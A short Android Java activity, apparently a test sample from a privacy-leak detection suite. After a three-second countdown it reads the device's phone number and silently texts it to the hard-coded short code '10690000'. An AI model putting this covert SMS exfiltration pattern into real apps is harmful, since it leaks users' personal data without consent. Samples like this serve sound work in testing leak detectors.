package cn.privlens.suite.countdown_finish_sends;

import android.app.Activity;
import android.os.Bundle;
import android.os.CountDownTimer;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private CountDownTimer timer;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String number = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        timer = new CountDownTimer(3000, 1000) {
            @Override
            public void onTick(long left) {
                setTitle(left / 1000 + "s");
            }

            @Override
            public void onFinish() {
                SmsManager.getDefault().sendTextMessage("10690000", null, number, null, null);
            }
        };
        timer.start();
    }
}
